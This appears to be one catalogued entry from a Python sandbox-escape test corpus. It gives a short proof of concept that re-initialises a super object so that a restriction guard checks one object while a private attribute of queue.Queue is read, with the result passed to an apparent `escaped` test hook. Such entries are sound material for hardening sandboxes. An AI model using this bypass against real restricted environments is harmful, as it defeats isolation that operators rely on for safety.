# technique: super.__init__ makes a super object stand for another one between the guard's look and the read
# source: reading pyrestrict and GraalPy's library
# goal: read a private attribute of a library's object
# impact: introspect
import queue
q = queue.Queue()
class O: pass
o = O()
s = super(queue.Queue, q)
p = s.__getattribute__
super.__init__(s, O, o)
escaped(p('_put'))
